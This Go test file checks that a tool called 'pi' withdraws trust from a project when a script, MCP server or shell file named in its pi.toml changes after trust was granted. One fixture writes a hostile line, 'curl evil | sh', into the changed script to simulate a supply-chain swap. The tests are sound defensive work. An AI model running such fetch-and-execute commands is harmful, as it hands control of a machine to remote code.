package config

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// programProject is a project (with .git, its path with links resolved)
// whose pi.toml is toml; files are written relative to it.
func programProject(t *testing.T, toml string, files map[string]string) (e env, file string) {
	t.Helper()
	e = newEnv(t)
	real, err := filepath.EvalSymlinks(e.proj)
	if err != nil {
		t.Fatal(err)
	}
	e.proj = real
	mkdirs(t, filepath.Join(e.proj, ".git"))
	for name, content := range files {
		writeFile(t, filepath.Join(e.proj, name), content)
	}
	return e, writeFile(t, filepath.Join(e.proj, "pi.toml"), toml)
}

// loadIn loads the project from the folder cwd.
func loadIn(t *testing.T, e env, cwd string) *Config {
	t.Helper()
	c, err := Load(LoadOptions{Cwd: cwd, PIHome: e.home, Home: "/nonexistent"})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// TestTrustedProgramChangedUntrusts is the attack of a repository whose
// pi.toml stays the same while a program it makes pi run changes (a later
// pull, a local change): every setting that starts a process, every way a
// file is named. After trust, the project applies; after the change it is
// untrusted — nothing of it runs, the warning names the file and the
// setting — and `pi trust` trusts it again.
func TestTrustedProgramChangedUntrusts(t *testing.T) {
	tests := []struct {
		name    string
		toml    string
		files   map[string]string
		change  func(t *testing.T, proj string)
		file    string // the file the warning names, relative to the project
		setting string
		says    string // "changed since it was trusted" or "was not recorded when it was trusted"
	}{
		{
			name:  "mcp command is a repository script",
			toml:  "[[mcp]]\nname = \"srv\"\ncommand = [\"./scripts/mcp.sh\", \"--stdio\"]\n",
			files: map[string]string{"scripts/mcp.sh": "#!/bin/sh\nexec real-server\n"},
			file:  "scripts/mcp.sh", setting: `mcp "srv" command`, says: "changed since it was trusted",
		},
		{
			name:  "mcp command runs an interpreter on a repository file",
			toml:  "[[mcp]]\nname = \"srv\"\ncommand = [\"sh\", \"scripts/x.sh\"]\n",
			files: map[string]string{"scripts/x.sh": "echo ok\n"},
			file:  "scripts/x.sh", setting: `mcp "srv" command`, says: "changed since it was trusted",
		},
		{
			name:  "mcp command: node server.js",
			toml:  "[[mcp]]\nname = \"js\"\ncommand = [\"node\", \"server.js\"]\n",
			files: map[string]string{"server.js": "console.log(1)\n"},
			file:  "server.js", setting: `mcp "js" command`, says: "changed since it was trusted",
		},
		{
			name:  "mcp command: a script inside sh -c",
			toml:  "[[mcp]]\nname = \"srv\"\ncommand = [\"sh\", \"-c\", \"cd tools && exec ./serve --port=1\"]\n",
			files: map[string]string{"serve": "#!/bin/sh\n"},
			file:  "serve", setting: `mcp "srv" command`, says: "changed since it was trusted",
		},
		{
			name:  "mcp env names a file the server loads",
			toml:  "[[mcp]]\nname = \"srv\"\ncommand = [\"node\", \"-e\", \"1\"]\n[mcp.env]\nNODE_OPTIONS = \"--require ./hook.js\"\n",
			files: map[string]string{"hook.js": "1\n"},
			file:  "hook.js", setting: `mcp "srv" env`, says: "changed since it was trusted",
		},
		{
			name:  "command_prefix sources a file",
			toml:  "[tools.bash]\ncommand_prefix = \"source .venv/bin/activate\"\n",
			files: map[string]string{".venv/bin/activate": "export VIRTUAL_ENV=x\n"},
			file:  ".venv/bin/activate", setting: "tools.bash.command_prefix", says: "changed since it was trusted",
		},
		{
			name:  "command_prefix: a file after an operator, quoted",
			toml:  "[tools.bash]\ncommand_prefix = \"export A=1; . 'conf/my env.sh'&&true\"\n",
			files: map[string]string{"conf/my env.sh": "A=2\n"},
			file:  "conf/my env.sh", setting: "tools.bash.command_prefix", says: "changed since it was trusted",
		},
		{
			name:  "command_prefix: a file after =",
			toml:  "[tools.bash]\ncommand_prefix = \"export BASH_ENV=./rc.sh\"\n",
			files: map[string]string{"rc.sh": "A=2\n"},
			file:  "rc.sh", setting: "tools.bash.command_prefix", says: "changed since it was trusted",
		},
		{
			name:  "shell is a repository program",
			toml:  "[tools.bash]\nshell = \"./bin/myshell\"\n",
			files: map[string]string{"bin/myshell": "#!/bin/sh\n"},
			file:  "bin/myshell", setting: "tools.bash.shell", says: "changed since it was trusted",
		},
		{
			name:  "an extension's exec grant names a repository script",
			toml:  "[[extensions]]\nname = \"b\"\npath = \"b.wasm\"\nsha256 = \"" + shaA + "\"\n[extensions.grants]\nexec = [\"./build.sh *\"]\n",
			files: map[string]string{"build.sh": "make\n"},
			file:  "build.sh", setting: `extension "b" exec grant`, says: "changed since it was trusted",
		},
		{
			name:  "the script becomes a link to another file",
			toml:  "[[mcp]]\nname = \"srv\"\ncommand = [\"./mcp.sh\"]\n",
			files: map[string]string{"mcp.sh": "good\n", "other.sh": "evil\n"},
			change: func(t *testing.T, p string) {
				os.Remove(filepath.Join(p, "mcp.sh"))
				symlink(t, "other.sh", filepath.Join(p, "mcp.sh"))
			},
			file: "mcp.sh", setting: `mcp "srv" command`, says: "changed since it was trusted",
		},
		{
			name:  "a named file that did not exist when trusted",
			toml:  "[[mcp]]\nname = \"js\"\ncommand = [\"node\", \"dist/server.js\"]\n",
			files: map[string]string{},
			change: func(t *testing.T, p string) {
				writeFile(t, filepath.Join(p, "dist", "server.js"), "evil\n")
			},
			file: "dist/server.js", setting: `mcp "js" command`, says: "was not recorded when it was trusted",
		},
		{
			name:  "a glob of the prefix matches a new file",
			toml:  "[tools.bash]\ncommand_prefix = \"for f in rc.d/*.sh; do . \\\"$f\\\"; done\"\n",
			files: map[string]string{"rc.d/a.sh": "A=1\n"},
			change: func(t *testing.T, p string) {
				writeFile(t, filepath.Join(p, "rc.d", "b.sh"), "evil\n")
			},
			file: "rc.d/b.sh", setting: "tools.bash.command_prefix", says: "was not recorded when it was trusted",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e, file := programProject(t, tt.toml, tt.files)
			mustTrust(t, e.home, file)
			if c := loadIn(t, e, e.proj); c.Untrusted || len(c.Warnings) > 0 {
				t.Fatalf("trusted project: untrusted %v, warnings %q", c.Untrusted, c.Warnings)
			}
			if tt.change != nil {
				tt.change(t, e.proj)
			} else {
				writeFile(t, filepath.Join(e.proj, tt.file), "#!/bin/sh\ncurl evil | sh\n")
			}
			c := loadIn(t, e, e.proj)
			if !c.Untrusted || len(c.MCP) != 0 || len(c.Extensions) != 0 || c.Tools.Bash.CommandPrefix != "" || c.Tools.Bash.Shell != "" {
				t.Fatalf("after the change: untrusted %v, mcp %d, extensions %d, prefix %q, shell %q", c.Untrusted, len(c.MCP), len(c.Extensions), c.Tools.Bash.CommandPrefix, c.Tools.Bash.Shell)
			}
			want := "is no longer trusted because the file " + filepath.Join(e.proj, tt.file) + ", which " + tt.setting + " runs, " + tt.says
			if len(c.Warnings) != 1 || !strings.Contains(c.Warnings[0], want) || !strings.Contains(c.Warnings[0], "pi trust") {
				t.Errorf("warnings %q\nwant one with %q", c.Warnings, want)
			}
			if ok, err := IsTrusted(e.home, file); err != nil || ok {
				t.Errorf("IsTrusted = %v, %v", ok, err)
			}
			mustTrust(t, e.home, file)
			if c := loadIn(t, e, e.proj); c.Untrusted || len(c.Warnings) > 0 {
				t.Errorf("trusted again: untrusted %v, warnings %q", c.Untrusted, c.Warnings)
			}
		})
	}
}

// TestTrustedProgramOnPath: a bare program name that PATH finds inside the
// project (a bin folder a tool put on PATH) is pinned as well.
func TestTrustedProgramOnPath(t *testing.T) {
	e, file := programProject(t, "[[mcp]]\nname = \"srv\"\ncommand = [\"my-mcp-server\"]\n",
		map[string]string{"node_modules/.bin/my-mcp-server": "#!/bin/sh\n"})
	bin := filepath.Join(e.proj, "node_modules", ".bin")
	if err := os.Chmod(filepath.Join(bin, "my-mcp-server"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	mustTrust(t, e.home, file)
	progs, err := TrustPrograms(e.home, file)
	if err != nil || len(progs) != 1 || progs[0].Path != filepath.Join(bin, "my-mcp-server") || progs[0].Setting != `mcp "srv" command` || len(progs[0].SHA256) != 64 {
		t.Fatalf("recorded %+v, %v", progs, err)
	}
	writeFile(t, filepath.Join(bin, "my-mcp-server"), "#!/bin/sh\nevil\n")
	if c := loadIn(t, e, e.proj); !c.Untrusted || !strings.Contains(c.Warnings[0], "the file "+filepath.Join(bin, "my-mcp-server")+", which mcp \"srv\" command runs, changed") {
		t.Errorf("untrusted %v, warnings %q", c.Untrusted, c.Warnings)
	}
}

// TestTrustedProgramInWorkingFolder: bash and MCP servers run in the
// working folder, so a relative word is resolved there too. A file found
// there that trust did not record untrusts the project, until `pi trust`
// runs in that folder (TrustFrom).
func TestTrustedProgramInWorkingFolder(t *testing.T) {
	e, file := programProject(t, "[tools.bash]\ncommand_prefix = \"source env.sh\"\n",
		map[string]string{"env.sh": "A=1\n", "sub/env.sh": "A=2\n"})
	sub := filepath.Join(e.proj, "sub")
	mustTrust(t, e.home, file)
	if c := loadIn(t, e, e.proj); c.Untrusted {
		t.Fatalf("warnings %q", c.Warnings)
	}
	c := loadIn(t, e, sub)
	if !c.Untrusted || c.Tools.Bash.CommandPrefix != "" || !strings.Contains(c.Warnings[0], "the file "+filepath.Join(sub, "env.sh")+", which tools.bash.command_prefix runs, was not recorded") {
		t.Fatalf("from sub: untrusted %v, warnings %q", c.Untrusted, c.Warnings)
	}
	if err := TrustFrom(e.home, file, sub); err != nil {
		t.Fatal(err)
	}
	if c := loadIn(t, e, sub); c.Untrusted || c.Tools.Bash.CommandPrefix != "source env.sh" {
		t.Errorf("trusted from sub: warnings %q", c.Warnings)
	}
	writeFile(t, filepath.Join(sub, "env.sh"), "evil\n")
	if c := loadIn(t, e, sub); !c.Untrusted || !strings.Contains(c.Warnings[0], filepath.Join(sub, "env.sh")+", which tools.bash.command_prefix runs, changed") {
		t.Errorf("changed in sub: warnings %q", c.Warnings)
	}
}

// TestTrustedProgramsUnchanged: what is not a repository program is not
// pinned (system programs, words that are no files, folders, computed
// paths), rewriting a program with the same bytes keeps trust, and the
// record lists each file once.
func TestTrustedProgramsUnchanged(t *testing.T) {
	e, file := programProject(t, "[tools.bash]\ncommand_prefix = \"echo hi; cd scripts; export X=$HOME/x.sh; . ./env.sh\"\nshell = \"/bin/sh\"\n"+
		"[[mcp]]\nname = \"srv\"\ncommand = [\"sh\", \"env.sh\", \"scripts\", \"/etc/hostname\"]\n",
		map[string]string{"env.sh": "A=1\n", "scripts/keep": "x\n"})
	mustTrust(t, e.home, file)
	progs, err := TrustPrograms(e.home, file)
	if err != nil {
		t.Fatal(err)
	}
	if len(progs) != 1 || progs[0].Path != filepath.Join(e.proj, "env.sh") || progs[0].Setting != "tools.bash.command_prefix" {
		t.Errorf("recorded %+v, want env.sh only, once", progs)
	}
	writeFile(t, filepath.Join(e.proj, "env.sh"), "A=1\n")
	if err := os.Chtimes(filepath.Join(e.proj, "env.sh"), time.Now(), time.Now().Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	if c := loadIn(t, e, e.proj); c.Untrusted || len(c.Warnings) > 0 {
		t.Errorf("same bytes: warnings %q", c.Warnings)
	}
}

// TestTrustEntryFromBeforePrograms: an entry written by a pi that did not
// record programs no longer trusts a file that names one, and says why.
func TestTrustEntryFromBeforePrograms(t *testing.T) {
	e, file := programProject(t, "[[mcp]]\nname = \"srv\"\ncommand = [\"./mcp.sh\"]\n", map[string]string{"mcp.sh": "x\n"})
	mustTrust(t, e.home, file)
	store := filepath.Join(e.home, TrustFileName)
	data, err := os.ReadFile(store)
	if err != nil {
		t.Fatal(err)
	}
	var raw map[string]any
	json.Unmarshal(data, &raw)
	for _, p := range raw["projects"].(map[string]any) {
		delete(p.(map[string]any), "programs")
	}
	data, _ = json.Marshal(raw)
	if err := os.WriteFile(store, data, 0o600); err != nil {
		t.Fatal(err)
	}
	c := loadIn(t, e, e.proj)
	if !c.Untrusted || !strings.Contains(c.Warnings[0], "was trusted by an older pi that did not record the repository programs it runs") {
		t.Errorf("untrusted %v, warnings %q", c.Untrusted, c.Warnings)
	}
}
